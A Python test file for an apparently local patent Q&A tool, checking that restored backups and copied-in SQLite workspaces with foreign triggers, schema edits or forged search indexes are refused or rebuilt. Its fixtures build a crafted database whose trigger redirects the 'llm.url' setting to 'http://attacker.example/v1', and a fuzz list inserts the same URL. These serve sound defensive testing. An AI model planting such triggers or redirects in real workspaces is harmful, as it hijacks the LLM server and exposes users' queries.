"""Workspace files from elsewhere: a restored backup, a file copied into the data folder.
Anything that is not a workspace as our migrations make it is refused in one line, before it
can run a trigger, leaving every workspace as it was; a restored backup brings its content,
not the other machine's LLM server or model paths, and its search index is rebuilt here."""

from __future__ import annotations

import contextlib
import faulthandler
import hashlib
import os
import random
import shutil
import signal
import time
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
import sqlean as sqlite3

from core.desk import Desk
from core.errors import PatentDeskError, WorkspaceError
from core.ingest.importer import import_file
from core.retrieve import Retriever
from core.store import open_workspace, restore_workspace
from core.store.failures import is_storage_error
from core.store.migrations import m001_items_settings_fts
from tests.conftest import DEMO_DIR, run_cli, workspace_content

# Loads models, trains, or starts the program: `pytest -m "not slow"` leaves it out.
pytestmark = pytest.mark.slow

SMALL = DEMO_DIR / "patent_attorney_act_qa.csv"  # 10 entries
# Mutated workspace files: 300 in CI; PATENT_DESK_FUZZ_FILES=1000 for the full run (as
# PATENT_DESK_FUZZ_EXAMPLES sizes the spreadsheet fuzz).
FUZZ_FILES = max(300, int(os.environ.get("PATENT_DESK_FUZZ_FILES", "300")))
WATCHDOG_S = 30.0  # per restore or open of one mutant; each takes milliseconds


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _crafted(path: Path) -> Path:
    """The review's file: only `items` and `settings`, and a trigger that points the LLM at
    another server whenever a setting changes."""
    db = sqlite3.connect(str(path))
    m001_items_settings_fts(db)
    db.execute("DROP TABLE items_fts")
    db.execute("DROP TABLE imports")
    db.execute("INSERT INTO items VALUES (1, '專利年費可以預繳嗎？', '可以。', '', 'k', 'h', '', 0,"
               " '{}', '2026-01-01', '2026-01-01')")
    db.execute("CREATE TRIGGER redirect AFTER INSERT ON settings BEGIN INSERT OR REPLACE INTO"
               " settings VALUES ('llm.url', '\"http://attacker.example/v1\"'); END")
    db.execute("PRAGMA user_version = 2")
    db.commit()
    db.close()
    return path


def _small_workspace(name: str) -> Path:
    with open_workspace(name) as ws:
        import_file(ws, SMALL)
        with ws.transaction():  # vectors as an encoder would leave them (any 4 numbers)
            ws.reset_vectors(4, "bundled:test")
            ws.put_vectors(ws.item_ids(), np.random.default_rng(0).random((10, 4)))
        return ws.path


def test_a_crafted_file_is_refused_on_open_and_on_restore(data_home: Path, tmp_path: Path):
    firm = _small_workspace("firm")
    before = workspace_content(firm)
    crafted = _crafted(tmp_path / "crafted.sqlite")
    placed = data_home / "workspaces" / "crafted.sqlite"
    shutil.copy(crafted, placed)
    sha = _sha(placed)

    with pytest.raises(WorkspaceError, match="defines a trigger 'redirect'"):
        open_workspace("crafted")
    opened = run_cli("search", "年費", "-w", "crafted", home=data_home)
    assert opened.returncode == 2
    assert opened.stderr.strip().splitlines() == [
        f"error: workspace file {placed} is not one Patent Desk made (it defines a trigger "
        "'redirect', which Patent Desk never creates); it was not opened, and nothing was "
        "changed"]
    assert _sha(placed) == sha

    restored = run_cli("restore", str(crafted), "-w", "firm", home=data_home)
    assert restored.returncode == 2
    assert restored.stderr.strip().splitlines() == [
        f"error: {crafted}: not a Patent Desk backup (it defines a trigger 'redirect', which "
        "Patent Desk never creates); nothing was changed"]
    assert workspace_content(firm) == before


def test_a_missing_search_index_is_named_not_a_traceback(data_home: Path):
    path = _small_workspace("firm")
    db = sqlite3.connect(str(path))
    db.execute("DROP TABLE items_fts")
    db.commit()
    db.close()
    result = run_cli("search", "專利", "-w", "firm", home=data_home)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "'items_fts' is missing" in result.stderr


def test_a_restored_backup_keeps_this_machines_llm_settings(data_home: Path, tmp_path: Path,
                                                            encoder):
    with Desk("firm", encoder=encoder) as desk:  # the other machine's workspace
        desk.import_files([SMALL])
        desk.ws.set_setting("llm.url", "http://10.0.0.9:8080/v1")
        desk.ws.set_setting("models.llm", "/home/other/models/big.gguf")
        desk.ws.set_setting("llm.n_threads", 32)
    backup = tmp_path / "firm-backup.sqlite"
    assert run_cli("backup", "-w", "firm", "--to", str(backup), home=data_home).returncode == 0

    here = tmp_path / "this-machine"  # a fresh data home: nothing there yet
    first = run_cli("restore", str(backup), "-w", "fresh", home=here)
    assert first.returncode == 0, first.stderr
    assert "this computer's settings were kept" in first.stdout
    with open_workspace_in(here, "fresh") as ws:
        assert ws.get_setting("llm.url") is None and ws.get_setting("models.llm") is None
        assert ws.get_setting("llm.n_threads") is None
        assert ws.count_items() == 10

    with open_workspace_in(here, "mine") as ws:
        ws.set_setting("llm.url", "http://localhost:8080/v1")
        import_file(ws, DEMO_DIR / "utility_model_report_qa.csv")
    again = run_cli("restore", str(backup), "-w", "mine", home=here)
    assert again.returncode == 0, again.stderr
    with open_workspace_in(here, "mine") as ws:
        assert ws.get_setting("llm.url") == "http://localhost:8080/v1"  # not redirected
        assert ws.get_setting("models.llm") is None
        assert ws.count_items() == 10
        assert ws.vector_dim() is None  # derived data is rebuilt here, not trusted
        hits = Retriever(ws).search("專利師", mode="lexical")
        assert hits and hits[0].item.question  # the lexical index was rebuilt from items
    search = run_cli("search", "專利師", "-w", "mine", home=here)
    assert search.returncode == 0 and "semantic search: 0% ready" in search.stderr


class open_workspace_in:  # noqa: N801 - used like open_workspace, in another data home
    def __init__(self, home: Path, name: str) -> None:
        self.home, self.name = home, name

    def __enter__(self):
        import os

        self.old = os.environ.get("PATENT_DESK_HOME")
        os.environ["PATENT_DESK_HOME"] = str(self.home)
        self.ws = open_workspace(self.name)
        return self.ws

    def __exit__(self, *exc: object) -> None:
        import os

        self.ws.close()
        os.environ["PATENT_DESK_HOME"] = self.old or ""


SCHEMA_EDITS = [
    "CREATE TRIGGER t1 AFTER UPDATE ON settings BEGIN SELECT 1; END",
    "CREATE TRIGGER t2 BEFORE INSERT ON items BEGIN SELECT 1; END",
    "CREATE VIEW v1 AS SELECT * FROM items",
    "CREATE TABLE junk (x)",
    "CREATE INDEX extra ON items(category)",
    "DROP INDEX queries_item",
    "DROP TABLE imports",
    "DROP TABLE items_fts",
    "DROP TABLE item_vectors",
    "ALTER TABLE items ADD COLUMN more TEXT",
    "ALTER TABLE settings RENAME TO settings_old",
    "DELETE FROM items",
    "UPDATE items SET question = '改過的問題' || id",
    "UPDATE settings SET value = 'not json' WHERE key = 'vectors.dim'",
    "INSERT INTO settings VALUES ('llm.url', '\"http://attacker.example/v1\"')",
    "PRAGMA user_version = 7",
    "PRAGMA user_version = 1",
]
CONTENT_ONLY = {e for e in SCHEMA_EDITS if e.startswith(("DELETE", "UPDATE", "INSERT"))}


def _mutants(base: Path, out: Path, n_flips: int, n_edits: int
             ) -> list[tuple[Path, bool]]:
    """(file, whether its schema differs from ours): byte flips, then schema edits."""
    rng = random.Random(20261203)
    data = base.read_bytes()
    files = []
    for n in range(n_flips):
        mutated = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            at = rng.randrange(len(mutated)) if rng.random() < 0.7 else rng.randrange(100)
            mutated[at] ^= 1 << rng.randrange(8)
        path = out / f"flip{n}.sqlite"
        path.write_bytes(bytes(mutated))
        files.append((path, False))
    for n in range(n_edits):
        path = out / f"edit{n}.sqlite"
        shutil.copy(base, path)
        db = sqlite3.connect(str(path))
        structural = False
        for edit in rng.sample(SCHEMA_EDITS, rng.randint(1, 3)):
            try:
                db.execute(edit)
            except sqlite3.Error:
                continue  # the edit needs a table an earlier edit removed
            structural = structural or edit not in CONTENT_ONLY
        db.commit()
        db.close()
        files.append((path, structural))
    return files


def _one_line_or_fine(action) -> str:  # noqa: ANN001
    """'ok', or 'refused' for what the CLI and the window turn into one line."""
    try:
        action()
    except PatentDeskError:
        return "refused"
    except Exception as exc:
        if is_storage_error(exc):  # damaged: the CLI's one storage line, never a traceback
            return "refused"
        raise
    return "ok"


class MutantHung(BaseException):  # noqa: N818 - not caught as an Exception on its way out
    """A mutant's restore or open ran past the watchdog: a hang would stall CI."""


@contextlib.contextmanager
def _watchdog(what: str, seconds: float = WATCHDOG_S) -> Iterator[None]:
    """Fail with `what` if the block runs past `seconds` (POSIX; elsewhere no watchdog). A
    hang inside SQLite's C code never returns to Python: faulthandler ends the run then,
    printing every thread's stack, so CI fails instead of stalling."""
    if not hasattr(signal, "setitimer"):
        yield
        return

    def hung(_signum: int, _frame: object) -> None:
        raise MutantHung(f"{what}: still running after {seconds:.0f} s")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    faulthandler.dump_traceback_later(2 * seconds, exit=True)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        faulthandler.cancel_dump_traceback_later()
        signal.signal(signal.SIGALRM, previous)


def test_a_watchdog_names_the_mutant_that_hangs():
    with pytest.raises(MutantHung, match="flip7.sqlite, opened: still running after 0 s"):
        with _watchdog("flip7.sqlite, opened", seconds=0.2):
            time.sleep(5)


def test_mutated_workspace_files_never_crash_hang_or_touch_the_open_workspace(
        data_home: Path, tmp_path: Path):
    base = _small_workspace("base")
    open_one = open_workspace("firm")
    import_file(open_one, DEMO_DIR / "utility_model_report_qa.csv")
    before = workspace_content(open_one.path)
    flips = FUZZ_FILES * 7 // 10  # byte flips; the rest schema and content edits
    mutants = _mutants(base, tmp_path, n_flips=flips, n_edits=FUZZ_FILES - flips)
    outcomes = {"ok": 0, "refused": 0}
    let_through = []
    for n, (mutant, structural) in enumerate(mutants):
        name = f"probe{n}"

        def restore(mutant: Path = mutant, name: str = name) -> None:
            restore_workspace(mutant, name)
            with open_workspace(name) as ws:
                Retriever(ws).search("專利師", mode="lexical")

        with _watchdog(f"{mutant.name}, restored"):
            restored = _one_line_or_fine(restore)
        outcomes[restored] += 1
        placed = data_home / "workspaces" / f"{name}.sqlite"
        shutil.copy(mutant, placed)  # the same file copied into the data folder

        def open_and_search(name: str = name) -> None:
            with open_workspace(name) as ws:
                Retriever(ws).search("專利師", mode="lexical")
                ws.set_setting("touched", 1)  # a write, where a trigger would fire

        with _watchdog(f"{mutant.name}, opened"):
            opened = _one_line_or_fine(open_and_search)
        outcomes[opened] += 1
        if structural and "ok" in (restored, opened):
            let_through.append(mutant.name)
        for leftover in (data_home / "workspaces").glob(f"{name}.sqlite*"):
            leftover.unlink()
    assert len(mutants) == FUZZ_FILES >= 300
    assert not let_through  # every file whose schema is not ours was refused, both ways
    assert outcomes["refused"] > 0.3 * FUZZ_FILES and outcomes["ok"] > 0
    assert workspace_content(open_one.path) == before
    assert open_one.get_setting("llm.url") is None
    open_one.close()


def test_a_file_damaged_since_this_computer_closed_it_is_refused_on_open(data_home: Path):
    path = _small_workspace("firm")
    open_workspace("firm").close()  # opened and closed: no check needed next time
    record = (data_home / "checked-workspaces.json").read_text()
    assert "workspaces/firm.sqlite" in record
    data = bytearray(path.read_bytes())
    page = 4096 * 3  # a b-tree page of the items: its header's cell count made nonsense
    data[page + 3: page + 5] = b"\xff\xff"
    path.write_bytes(bytes(data))
    sha = _sha(path)
    result = run_cli("search", "專利師", "-w", "firm", "--mode", "lexical", home=data_home)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert result.stderr.strip().splitlines() == [
        f"error: cannot open workspace file {path}: it is damaged (SQLite's integrity check "
        "failed); restore it from a backup (patent-desk restore FILE --workspace firm) or "
        "choose another workspace; nothing was changed"]
    assert _sha(path) == sha


def _forged_elsewhere(path: Path) -> dict[str, int]:
    """A workspace made on another computer (its own data folder), whose lexical index
    points item 1's words at item 2 and back, with vectors and a measured fusion weight."""
    path.parent.mkdir(parents=True)
    from core.store import Workspace

    with Workspace(path) as ws:
        import_file(ws, SMALL)
        with ws.transaction():
            ws.reset_vectors(4, "bundled:test")
            ws.put_vectors(ws.item_ids(), np.random.default_rng(0).random((10, 4)))
            ws.set_setting("fusion", {"dense_weight": 0.9, "source": "probes"})
        first, second = ws.get_items([1, 2])
    db = sqlite3.connect(str(path))
    rows = {r[0]: r[1:] for r in db.execute("SELECT rowid, question, body, category FROM"
                                            " items_fts WHERE rowid IN (1, 2)")}
    for rowid, other in ((1, 2), (2, 1)):
        db.execute("UPDATE items_fts SET question = ?, body = ?, category = ? WHERE rowid = ?",
                   (*rows[other], rowid))
    db.commit()
    db.close()
    return {first.question: 1, second.question: 2}


def test_a_file_copied_in_by_hand_has_its_search_index_rebuilt_on_open(data_home: Path,
                                                                       tmp_path: Path):
    firm = _small_workspace("firm")
    open_workspace("firm").close()
    before = workspace_content(firm)
    questions = _forged_elsewhere(tmp_path / "other-computer" / "workspaces" / "x.sqlite")
    shutil.copy(tmp_path / "other-computer" / "workspaces" / "x.sqlite",
                data_home / "workspaces" / "copied.sqlite")

    with open_workspace("copied") as ws:
        for question, item_id in questions.items():
            hits = Retriever(ws).search(question, mode="lexical")
            assert hits[0].item.id == item_id, question  # not the forged row's item
        assert ws.vector_dim() is None and ws.count_vectors() == 0  # the fill embeds here
        assert ws.get_setting("fusion") is None  # measured on vectors that are gone
    assert workspace_content(firm) == before
    result = run_cli("search", next(iter(questions)), "-w", "copied", "--mode", "lexical",
                     home=data_home)
    assert result.returncode == 0, result.stderr


def test_workspaces_this_computer_made_keep_their_vectors_on_open(data_home: Path):
    from core.workspaces import rename_workspace

    _small_workspace("firm")
    for name in ("firm", "renamed"):
        with open_workspace(name) as ws:
            assert ws.count_vectors() == 10 and not ws.rebuilt_derived, name
        if name == "firm":
            rename_workspace("firm", "renamed")
